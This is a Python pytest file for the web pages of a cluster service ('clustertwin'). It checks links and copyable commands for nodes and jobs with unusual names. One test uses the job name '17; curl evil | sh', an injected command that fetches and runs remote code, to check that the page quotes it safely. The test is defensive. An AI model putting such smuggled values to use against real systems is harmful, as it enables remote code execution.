"""Pages of nodes, jobs and users with odd names: links that lead back, and commands to copy."""

from __future__ import annotations

import re
from dataclasses import replace
from html import unescape
from urllib.parse import quote

import numpy as np
import pytest
from tests.service.sample_state import snapshot

from clustertwin.service.store.name_patterns import matches


@pytest.fixture
def show(published):
    """Publish the sample state with this name for its first node and its job."""

    def publish(name):
        now = snapshot()
        moment = replace(now.moment, nodes=(name, "n2"), jobs=(name,), job=np.array([0, 0, -1, -1], np.int32))
        node = replace(now.nodes[0], node=name, jobs=(name,))
        job = replace(now.jobs[0], job=name, nodes=(name,))
        changed = replace(now, moment=moment, scored=moment, nodes=(node,), jobs=(job,), events=())
        published.publish(changed, None)

    return publish


@pytest.mark.parametrize("folder", ["nodes", "jobs"])
@pytest.mark.parametrize("name", ["100%", "a?b=c", "a#b", "trail ", "   ", "é", "a\\b", "//a/b", "__proto__"])
def test_blocks_that_are_loaded_again_ask_for_the_same_name(client, show, folder, name):
    show(name)
    text = client.get(f"/{folder}/{quote(name, safe='')}").text
    again = set(map(unescape, re.findall(r'hx-get="([^"]*)"', text)))
    assert again == {f"/{folder}/{quote(name)}"}
    assert client.get(again.pop(), headers={"HX-Request": "true", "HX-Target": "memory_forecasts"}).status_code == 200


def test_the_command_on_the_page_of_a_job_is_safe_to_copy(client, show):
    show("17; curl evil | sh")
    assert "<code>twin job &#39;17; curl evil | sh&#39;</code>" in client.get("/jobs/17;%20curl%20evil%20|%20sh").text


@pytest.mark.parametrize("name", ["*", "n0*", "a?", "n01 n02", "n01,n02", "job[3]", "a*[b]"])
def test_the_link_to_maintenance_covers_no_other_node(client, show, name):
    """A node chose the name n0*, and its link put every node with such a name into maintenance."""
    show(name)
    link = unescape(re.search(r'href="(/quiet\?[^"]*)"', client.get(f"/nodes/{quote(name, safe='')}").text)[1])
    nodes = unescape(re.search(r'name="nodes" value="([^"]*)"', client.get(link).text)[1])
    patterns = nodes.replace(",", " ").split()
    assert any(matches(name, pattern) for pattern in patterns)
    assert not any(matches(other, pattern) for other in ("n01", "n02", "ab", "a") for pattern in patterns)
